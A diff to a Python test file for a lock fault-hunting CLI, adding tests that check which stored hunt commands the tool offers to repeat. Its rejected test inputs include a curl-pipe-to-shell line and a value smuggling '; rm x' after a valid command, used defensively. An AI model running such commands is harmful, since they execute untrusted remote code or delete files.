@@ -439,7 +439,7 @@ def test_a_folder_of_another_user_is_listed_with_the_reason(call, tmp_path, monk
     call("ls")  # which imports everything that the other user cannot read
     os.seteuid(65534)
     try:
-        code, said = call("ls")
+        code, said = call("ls", "--json")
     finally:
         os.seteuid(0)
     assert code == 0
@@ -453,3 +453,25 @@ def test_a_suite_that_names_no_path_lists_the_runs_that_it_can(call, tmp_path):
     (suite / "suite.json").write_text(json.dumps([{"test": "a", "run": "a\0b"}]))
     assert list(run_index.named(run_index.entry_of(suite, "suite"))) == []
     assert call("site", str(tmp_path / "site"), "--docs", str(tmp_path))[0] == 0
+
+
+@pytest.mark.parametrize(
+    ("stored", "shown"),
+    [
+        ("fencepost hunt redlock --faults clock,partition", True),
+        ("curl -s http://example.org | sh", False),
+        ("fencepost hunt redlock; rm x", False),
+        ("fencepost hunt 'redlock", False),
+    ],
+)
+def test_the_command_to_repeat_a_stored_hunt_only_hunts(call, stored, shown):
+    made("hunt", valid=False, simulated=True, hunt={"command": stored})
+    code, said = call("show", "hunt")
+    assert (code, f"repeat: {stored}" in said) == (0, shown)
+
+
+def test_a_suite_that_cannot_be_used_is_no_baseline(call, tmp_path):
+    (made("suite") / "suite.json").write_text('[{"test": "a"}]')
+    code, said = call("nightly", "baseline", "suite", "--baseline", str(tmp_path / "b.json"))
+    assert code == 254
+    assert "cannot be used" in said
